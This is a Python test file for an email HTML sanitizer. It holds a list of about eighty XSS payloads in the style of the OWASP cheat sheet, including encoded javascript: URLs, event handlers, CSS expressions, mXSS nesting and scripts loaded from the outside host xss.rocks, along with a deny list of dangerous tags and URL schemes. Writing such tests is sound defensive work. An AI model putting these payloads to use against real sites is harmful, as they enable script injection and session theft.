"""HTML sanitizing: XSS vectors are neutralized, ordinary mail formatting survives."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from mailroom.mime import sanitize_html

# OWASP "XSS Filter Evasion Cheat Sheet"-style vectors, plus a few mXSS and mail-specific ones.
XSS_VECTORS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<BODY ONLOAD=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<p style=\"color: red; width: expression(alert('XSS'))\">x</p>",
    "<p style=\"color: red; background-color: url(javascript:alert('XSS'))\">x</p>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#0000115;cript:alert(1)">x</a>',
    '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<xss style="behavior: url(xss.htc);">x</xss>',
    "<div style=\"-moz-binding:url('http://x/xss.xml#xss')\">x</div>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    '<object data="javascript:alert(1)"></object>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<img src=x onerror\x0b=alert(1)>",
    '<a href="/logout">relative</a><img src="/api/delete?all=1">',
    '<a xlink:href="javascript:alert(1)">x</a><svg><a xlink:href="javascript:alert(1)">'
    "<text>x</text></a></svg>",
    "<template><script>alert(1)</script></template>",
    '<textarea autofocus onfocus="alert(1)">x</textarea><select onchange=alert(1)></select>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<div id="login" class="btn-primary" name="x">clobber</div>',
]

# fmt: off
FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "base", "link",
    "form", "input", "button", "textarea", "select", "isindex", "style", "svg", "math", "video",
    "audio", "source", "template", "marquee", "xss", "body", "html", "head", "title", "noscript",
}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "background", "dynsrc", "lowsrc",
             "xlink:href", "poster", "codebase", "cite", "longdesc", "usemap", "srcset"}
# fmt: on
_JUNK = re.compile(r"[\x00-\x20\x7f]+")
_BAD_URL = re.compile(r"^(?:javascript|vbscript|livescript|data:(?!image/(?:png|gif|jpe?g|webp);))")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record a start tag and its attributes."""
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record a self-closing tag and its attributes."""
        self.elements.append((tag, attrs))


def assert_inert(output: str) -> None:
    """Fail if ``output`` holds anything that could run script or leave the allow-list."""
    parser = _Collector()
    parser.feed(output)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag not in FORBIDDEN_TAGS, (tag, output)
        for name, value in attrs:
            assert not name.startswith("on"), (name, output)
            assert name not in {"srcdoc", "id", "name", "class", "formaction", "xlink:href"}
            text = _JUNK.sub("", html.unescape(value or "")).lower()
            if name in URL_ATTRS:
                assert not _BAD_URL.match(text), (name, value, output)
                assert re.match(r"^(?:https?:|mailto:|tel:|cid:|data:image/)", text), (name, value)
            if name == "style":
                for bad in ("expression", "url(", "javascript", "behavior", "binding", "\\"):
                    assert bad not in text, (value, output)


def test_there_are_at_least_forty_vectors() -> None:
    """The XSS vector list stays large enough to mean something."""
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralized(vector: str) -> None:
    """Sanitized output of each XSS vector has no script, handler or dangerous URL."""
    assert_inert(sanitize_html(vector))


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_inside_a_mail_layout_is_neutralized(vector: str) -> None:
    """The same vectors wrapped in a typical table layout are neutralized too."""
    doc = f"<html><body><table><tr><td>Hello {vector} there</td></tr></table></body></html>"
    assert_inert(sanitize_html(doc))


def test_links_get_rel_and_target_and_keep_safe_hrefs() -> None:
    """http/https/mailto links survive with rel=noopener noreferrer and target=_blank."""
    out = sanitize_html(
        '<a href="https://example.com/x?a=1&amp;b=2">x</a><a href="mailto:a@b">m</a>'
    )
    assert 'href="https://example.com/x?a=1&amp;b=2"' in out
    assert 'href="mailto:a@b"' in out
    assert out.count('rel="noopener noreferrer"') == 2
    assert out.count('target="_blank"') == 2


def test_images_keep_http_cid_and_raster_data_sources_only() -> None:
    """img src is kept for http(s), cid: and raster data:image URLs, dropped otherwise."""
    out = sanitize_html(
        '<img src="https://example.com/a.png"><img src="cid:logo@x">'
        '<img src="data:image/png;base64,iVBORw0KGgo="><img src="ftp://x/y.png">'
    )
    assert 'src="https://example.com/a.png"' in out
    assert 'src="cid:logo@x"' in out
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
    assert "ftp:" not in out


def test_mail_formatting_survives() -> None:
    """Tables, basic formatting, safe inline styles and legacy font tags are kept."""
    out = sanitize_html(
        '<table border="0" cellpadding="4"><tr><td bgcolor="#eee" colspan="2">'
        '<b>bold</b> <i>it</i> <u>u</u> <font color="red">red</font>'
        '<span style="color: blue; position: fixed; font-weight: bold">s</span></td></tr></table>'
        "<ul><li>one</li></ul><blockquote>q</blockquote><pre>code</pre><hr>"
    )
    for piece in (
        'cellpadding="4"',
        'bgcolor="#eee"',
        "<b>bold</b>",
        '<font color="red">',
        "<li>one</li>",
        "<blockquote>q</blockquote>",
        "<pre>code</pre>",
        "<hr>",
    ):
        assert piece in out
    assert "color:blue" in out.replace(" ", "")
    assert "position" not in out


def test_sanitize_never_raises_on_odd_input() -> None:
    """Empty, unbalanced, NUL-bearing and huge inputs come back as strings."""
    assert sanitize_html("") == ""
    assert isinstance(sanitize_html("<<<>>>&&&\x00<b"), str)
    assert isinstance(sanitize_html("<div>" * 5000), str)
